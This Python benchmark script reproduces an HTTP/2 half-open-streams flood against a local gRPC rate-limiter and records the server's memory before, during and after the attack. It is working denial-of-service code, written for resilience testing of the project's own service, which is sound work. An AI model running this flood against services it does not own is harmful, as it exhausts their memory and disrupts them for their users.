#!/usr/bin/env python3
"""The half-open-streams attack on the gRPC port (issue 22, item 2), with the service's memory.

Each of `--connections` raw HTTP/2 connections sends its preface, then HEADERS of
`ShouldRateLimit` calls on new streams, as fast as the socket takes them, and never a body;
server frames are read and dropped (pings unanswered unless `--pong`). A connection the server
closes is opened again. Every second the resident memory (VmRSS) of `--pid` is sampled; the
figures printed are before the attack, the highest during it, and `--after` seconds after it.

    python3 bench/grpc_half_open.py --port 8081 --pid "$(pidof ratelimiter)" --seconds 60

Standard library only.
"""

import argparse
import json
import socket
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + stream.to_bytes(4, "big") + payload


def header_block(token):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if token:
        fields.append(("authorization", "Bearer " + token))
    out = b""
    for name, value in fields:
        out += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return out


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


class Counts:
    def __init__(self):
        self.lock = threading.Lock()
        self.streams = 0
        self.connections = 0


def reader(sock, pong):
    buf = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                return
            if not pong:
                continue
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                kind, flags, payload = buf[3], buf[4], buf[9:9 + n]
                if kind == 6 and not flags & 1:
                    sock.sendall(frame(6, 1, 0, payload))
                buf = buf[9 + n:]
    except OSError:
        return


def attacker(port, token, stop, counts, pong, batch):
    block = header_block(token)
    while not stop.is_set():
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
            sock.settimeout(None)
            sock.sendall(PREFACE + frame(4, 0, 0) + frame(4, 1, 0))
            threading.Thread(target=reader, args=(sock, pong), daemon=True).start()
            with counts.lock:
                counts.connections += 1
            stream = 1
            while not stop.is_set() and stream < 2**31 - 2 * batch:
                burst = b"".join(frame(1, 4, stream + 2 * i, block) for i in range(batch))
                sock.sendall(burst)
                stream += 2 * batch
                with counts.lock:
                    counts.streams += batch
        except OSError:
            time.sleep(0.05)
        finally:
            try:
                sock.close()
            except (OSError, UnboundLocalError):
                pass


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--after", type=float, default=10)
    p.add_argument("--token", default=None)
    p.add_argument("--pong", action="store_true", help="answer the server's pings")
    p.add_argument("--batch", type=int, default=100, help="HEADERS frames per write")
    a = p.parse_args()

    before = rss_kib(a.pid)
    stop = threading.Event()
    counts = Counts()
    threads = [threading.Thread(target=attacker, args=(a.port, a.token, stop, counts, a.pong, a.batch),
                                daemon=True) for _ in range(a.connections)]
    for t in threads:
        t.start()
    peak, samples, start = before, [], time.time()
    while time.time() - start < a.seconds:
        time.sleep(1)
        r = rss_kib(a.pid)
        peak = max(peak, r)
        samples.append(r)
    stop.set()
    time.sleep(a.after)
    after = rss_kib(a.pid)
    print(json.dumps({
        "connections": a.connections, "seconds": a.seconds, "pong": a.pong,
        "streams_opened": counts.streams, "connections_opened": counts.connections,
        "rss_mib_before": round(before / 1024, 1), "rss_mib_peak": round(peak / 1024, 1),
        "rss_mib_after": round(after / 1024, 1),
        "rss_mib_samples": [round(s / 1024) for s in samples],
    }))


if __name__ == "__main__":
    main()
